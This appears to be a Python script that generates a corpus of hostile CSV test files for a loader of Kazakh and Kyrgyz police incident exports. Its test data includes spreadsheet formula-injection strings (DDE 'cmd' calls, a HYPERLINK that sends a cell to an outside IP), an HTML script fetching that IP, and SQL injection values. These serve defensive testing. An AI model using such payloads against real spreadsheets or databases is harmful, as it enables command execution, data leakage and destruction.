"""The hostile input corpus for the loader: files no analyst should send, but someone will.

Small files are committed in ``tests/data/hostile/`` (regenerate with
``python tests/data/make_hostile.py --small tests/data/hostile``); the large ones (a 5 MB line, a 1 MB
field, a file over a 1 MB upload limit, ...) are written at test time into a temporary directory
(``--large DIR``) instead of committing megabytes. Every builder is deterministic.

What each file must produce is written in ``tests/test_hostile.py``.
"""

from __future__ import annotations

import argparse
import gzip
import io
import random
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

KZ_HEADER = ("Номер ЕРДР;Дата регистрации;Дата совершения;Статья УК РК;Предмет посягательства;Район;"
             "Населенный пункт;Широта;Долгота;Статус;Ущерб, тенге;Интернет;Несовершеннолетние;Иностранцы;Фабула")
KZ_ROWS = [
    "241131031100001;03.01.2024;02.01.2024 23:40;188 ч.2 п.5;КРС;Кордайский район;с. Сортобе;43,0512;75,1873;"
    "в производстве;1450000;нет;нет;нет;Тайное хищение 3 голов КРС с пастбища",
    "241131031100002;04.01.2024;04.01.2024 10:15;188 ч.1;сотовый телефон;г. Тараз;г. Тараз;42,9001;71,3659;"
    "направлено в суд;185000;нет;да;нет;Кража телефона iPhone 13",
    "241131031100003;05.01.2024;;296 ч.2;наркотические средства;Шуский район;г. Шу;43,5983;73,7614;"
    "в производстве;0;да;нет;нет;Сбыт синтетических наркотиков через Telegram-бот",
    "241131031100004;06.01.2024;06.01.2024 02:30;200 ч.1;автомобиль;Кордайский район;с. Кордай;43,0436;74,7134;"
    "приостановлено;3200000;нет;нет;нет;Угон Toyota Camry 2012",
]
KG_HEADER = ("Рег. № ЕРП,Дата регистрации,Дата происшествия,Время,Статья УК КР,Наименование,Область,Район,"
             "Населенный пункт,Координаты,Состояние,Ущерб (сом),Интернет,Несовершеннолетние,Иностранцы,Фабула")
KG_ROWS = [
    '02-2024-900118,2024-01-02,2024-01-01,22:10,205-1 ч.2,Кража скота,Чуйская,Панфиловский район,с. Кайынды,'
    '"42.8262, 73.6788",в производстве,210000,0,0,1,"Похищено 5 голов МРС, перегон в сторону границы"',
    '02-2024-900131,2024-01-03,2024-01-03,09:45,205 ч.1,Кража,Чуйская,г. Токмок,г. Токмок,'
    '"42.8417, 75.2912",направлено в суд,45000,0,1,0,"Кража мобильного телефона Samsung A52"',
    '07-2024-900022,2024-01-04,2024-01-03,,,Незаконный оборот наркотических средств,Таласская,Манасский район,'
    'с. Покровка,"42.7203, 72.3571",в производстве,0,1,0,0,Продажа мефедрона через интернет-магазин',
]
FINDS_HEADER = ("Дата;Сторона;Подразделение;Место;Широта;Долгота;Вид объекта;Госномер;VIN;IMEI;Серийный номер;"
                "Бирка/тавро;Номер ориентировки;Результат;Примечание")
FORMULAS = ['=HYPERLINK("http://198.51.100.7/x?"&A1,"Подробнее")', "+7(701)123-45-67 звонил", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def kz(rows: list[str], header: str = KZ_HEADER, encoding: str = "cp1251", newline: str = "\r\n") -> bytes:
    """A KZ ЕРДР export as the Zhambyl system writes it (Windows-1251, ``;``, CRLF)."""
    return newline.join([header, *rows, ""]).encode(encoding)


def kg(rows: list[str], header: str = KG_HEADER, encoding: str = "utf-8-sig") -> bytes:
    """A KG ЕРП export (UTF-8 with BOM, ``,``, quoted)."""
    return "\n".join([header, *rows, ""]).encode(encoding)


def quoted(text: str, delimiter: str = ";") -> str:
    """A field as Excel writes it: quoted (quotes doubled) when it holds a delimiter, quote or newline."""
    if any(ch in text for ch in (delimiter, '"', "\n", "\r")):
        return '"' + text.replace('"', '""') + '"'
    return text


def kz_row(number: str, registered: str = "07.01.2024", summary: str = "Кража", occurred: str = "",
           district: str = "Кордайский район", lat: str = "43,0436", lon: str = "74,7134", damage: str = "0",
           raw_summary: bool = False) -> str:
    """One KZ row; the fabula is CSV-quoted like Excel does unless ``raw_summary`` (to break the format)."""
    fabula = summary if raw_summary else quoted(summary)
    return (f"{number};{registered};{occurred};188 ч.1;;{quoted(district)};с. Кордай;{lat};{lon};в производстве;"
            f"{damage};нет;нет;нет;{fabula}")


def _xlsx() -> bytes:
    import xlsxwriter  # installed with python-pptx

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    book.set_properties({"created": datetime(2024, 1, 1)})
    sheet = book.add_worksheet()
    for r, line in enumerate([KZ_HEADER, *KZ_ROWS]):
        for c, cell in enumerate(line.split(";")):
            sheet.write_string(r, c, cell)
    book.close()
    return buffer.getvalue()


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("kz_erdr_2024-01.csv", date_time=(2024, 1, 1, 0, 0, 0)), kz(KZ_ROWS))
    return buffer.getvalue()


HTML = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8">
<title>ЕРДР</title></head><body><table><tr><td>Номер ЕРДР</td><td>Дата регистрации</td><td>Фабула</td></tr>
<tr><td>241131031100001</td><td>03.01.2024</td><td>Кража</td></tr></table>
<script>fetch("http://198.51.100.7/")</script></body></html>
"""

# name -> builder of the file's bytes. Committed in tests/data/hostile/.
SMALL: dict[str, Callable[[], bytes]] = {
    "empty.csv": lambda: b"",
    "bom_only.csv": lambda: b"\xef\xbb\xbf",
    "whitespace_only.csv": lambda: b"\r\n  \r\n\t\r\n",
    "header_only_kz.csv": lambda: kz([]),
    "header_only_kg.csv": lambda: kg([]),
    "binary_random.csv": lambda: random.Random(9).randbytes(4096),
    "png_renamed.csv": lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
    "pdf_renamed.csv": lambda: b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n" + bytes(range(128, 256)) * 8,
    "html_saved_as.csv": lambda: HTML.encode("utf-8"),
    "gzip_renamed.csv": lambda: gzip.compress(kz(KZ_ROWS), mtime=0),
    "zip_renamed.csv": _zip,
    "xlsx_renamed.csv": _xlsx,
    "utf16le_kz.csv": lambda: b"\xff\xfe" + kz(KZ_ROWS, encoding="utf-16-le"),
    "utf16be_kg.csv": lambda: b"\xfe\xff" + "\n".join([KG_HEADER, *KG_ROWS, ""]).encode("utf-16-be"),
    "utf16le_no_bom_kz.csv": lambda: kz(KZ_ROWS, encoding="utf-16-le"),
    "duplicate_key_header_kz.csv": lambda: kz([r + ";241131031199999" for r in KZ_ROWS],
                                                 header=KZ_HEADER + ";Номер ЕРДР"),
    "duplicate_extra_header_kz.csv": lambda: kz([r + ";a;b" for r in KZ_ROWS], header=KZ_HEADER + ";Примечание;Примечание"),
    "unknown_columns_only.csv": lambda: b"foo;bar;baz\r\n1;2;3\r\n4;5;6\r\n",
    "only_delimiters.csv": lambda: b";;;;\r\n;;;;\r\n;;;;\r\n",
    "one_column_kz.csv": lambda: "Номер ЕРДР\r\n241131031100001\r\n".encode("cp1251"),
    "missing_date_column_kz.csv": lambda: kz([";".join(r.split(";")[:1] + r.split(";")[2:]) for r in KZ_ROWS],
                                             header=";".join(KZ_HEADER.split(";")[:1] + KZ_HEADER.split(";")[2:])),
    # the fabula's closing quote is missing: a lax parser swallows the next row into this fabula
    "unterminated_quote_kg.csv": lambda: kg([KG_ROWS[0], KG_ROWS[1].removesuffix('"'), KG_ROWS[2]]),
    "nul_in_field_kz.csv": lambda: kz([KZ_ROWS[0], KZ_ROWS[1].replace("Кража", "Кра\x00жа"), *KZ_ROWS[2:]]),
    "nul_in_header_kz.csv": lambda: kz(KZ_ROWS, header=KZ_HEADER.replace("Фабула", "Фаб\x00ула")),
    "future_dates_kz.csv": lambda: kz([*KZ_ROWS, kz_row("241131031100005", "01.01.2099"),
                                       kz_row("241131031100006", "31.12.2999")]),
    "feb31_kz.csv": lambda: kz([*KZ_ROWS, kz_row("241131031100007", "31.02.2024"),
                                kz_row("241131031100008", "07.01.2024", occurred="30.02.2024")]),
    "formula_fabula_kz.csv": lambda: kz([kz_row(f"24113103120000{i}", summary=payload)
                                         for i, payload in enumerate(FORMULAS)]),
    "formula_fields_kg.csv": lambda: kg([
        '02-2024-900201,2024-01-05,,,,Кража,Чуйская,"=HYPERLINK(""http://198.51.100.7"",""x"")",'
        '@A1,,в производстве,0,0,0,0,"=1+1"',
        '02-2024-900202,2024-01-05,,,,Кража,Чуйская,Панфиловский район,+A1,,в производстве,0,0,0,0,-A1']),
    "formula_finds.csv": lambda: "\r\n".join([
        FINDS_HEADER,
        '21.01.2024 16:05;KZ;Кордайский РОП;=HYPERLINK("http://198.51.100.7");;;автомобиль;08 KG 123 АВС;;;;;;'
        'задержано;=cmd|\' /C calc\'!A0', ""]).encode("utf-8"),
    "sql_in_values_kz.csv": lambda: kz([kz_row("241131031100009", summary="'); DROP TABLE incidents; --"),
                                        kz_row("241131031100010", district="Robert'); DELETE FROM uploads; --")]),
    "control_chars_kz.csv": lambda: kz([kz_row("241131031100011", summary="\x1b[31mкрасный\x1b[0m \x07 звонок"),
                                        kz_row("241131031100012", summary="обратно\u202eтекст")],
                                       encoding="utf-8"),
    "invalid_utf8_kg.csv": lambda: kg(KG_ROWS).replace("Кража скота".encode(), b"\xed\xa0\x80\xc3\x28 \xff\xfe"),
    "mixed_encoding_kg.csv": lambda: kg(KG_ROWS[:2]) + KG_ROWS[2].encode("cp1251") + b"\n",
    "bom_then_cp1251_kz.csv": lambda: b"\xef\xbb\xbf" + kz(KZ_ROWS),
    "all_rows_rejected_kz.csv": lambda: kz([kz_row(""), kz_row("", registered=""), kz_row("241131031100013",
                                                                                      registered="вчера")]),
    "duplicate_rows_kz.csv": lambda: kz([KZ_ROWS[0], KZ_ROWS[0], KZ_ROWS[0], KZ_ROWS[1]]),
    "bad_numbers_kz.csv": lambda: kz([kz_row("241131031100014", lat="NaN", lon="inf"),
                                      kz_row("241131031100015", lat="1e308", lon="-1e308"),
                                      kz_row("241131031100016", damage="99999999999999999999999999999"),
                                      kz_row("241131031100017", damage="-5")]),
    "ancient_date_kz.csv": lambda: kz([kz_row("241131031100018", "01.01.0001"), kz_row("241131031100019", "01.01.1900")]),
    "quotes_storm_kz.csv": lambda: kz([kz_row("241131031100020", summary='""""""""""', raw_summary=True),
                                       kz_row("241131031100021", summary='"a";"b";"c"', raw_summary=True)]),
    "cr_only_newlines_kz.csv": lambda: kz(KZ_ROWS, newline="\r"),
    "title_rows_before_header_kz.csv": lambda: kz(KZ_ROWS, header="Выгрузка ЕРДР за январь 2024\r\n;;;\r\n" + KZ_HEADER),
    "many_columns.csv": lambda: (";".join(f"col{i}" for i in range(5000)) + "\r\n"
                                 + ";".join(str(i) for i in range(5000)) + "\r\n").encode(),
    "emoji_kg.csv": lambda: kg([KG_ROWS[0].replace("Похищено", "Похищено 🐑🐎"), *KG_ROWS[1:]]),
    "trailing_delimiters_kz.csv": lambda: kz([r + ";;" for r in KZ_ROWS], header=KZ_HEADER + ";;"),
}


def _long_line() -> bytes:
    # a valid file with one 5 MB line of text without a single delimiter in the middle
    return kz([KZ_ROWS[0], "Ж" * (5 * 1024 * 1024), KZ_ROWS[1]], encoding="cp1251")


def _long_field() -> bytes:
    # a valid row whose fabula is 1 MB (1 048 576 characters)
    return kz([KZ_ROWS[0], kz_row("241131031100030", summary="ф" * (1024 * 1024)), KZ_ROWS[1]], encoding="utf-8")


def _over_limit() -> bytes:
    # ~1.5 MB of valid rows: fine by default, over the limit when SHEKARA_UPLOAD_LIMIT_MB=1
    rows = [kz_row(f"2411310319{i:05d}", summary="Кража " + "x" * 100) for i in range(9000)]
    return kz(rows, encoding="utf-8")


def _long_header() -> bytes:
    return kz(KZ_ROWS, header=KZ_HEADER + ";" + "З" * (1024 * 1024))


# Written at test time (``--large``): too big to commit.
LARGE: dict[str, Callable[[], bytes]] = {
    "long_line_5mb_kz.csv": _long_line,
    "long_field_1mb_kz.csv": _long_field,
    "over_upload_limit_kz.csv": _over_limit,
    "long_header_cell_1mb_kz.csv": _long_header,
}


def write(builders: dict[str, Callable[[], bytes]], directory: Path) -> list[Path]:
    """Write each file of ``builders`` into ``directory``; returns the paths."""
    directory.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, build in builders.items():
        path = directory / name
        path.write_bytes(build())
        paths.append(path)
    return paths


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--small", type=Path, help="write the committed small files here")
    parser.add_argument("--large", type=Path, help="write the large files here")
    args = parser.parse_args()
    if args.small:
        write(SMALL, args.small)
    if args.large:
        write(LARGE, args.large)


if __name__ == "__main__":
    main()
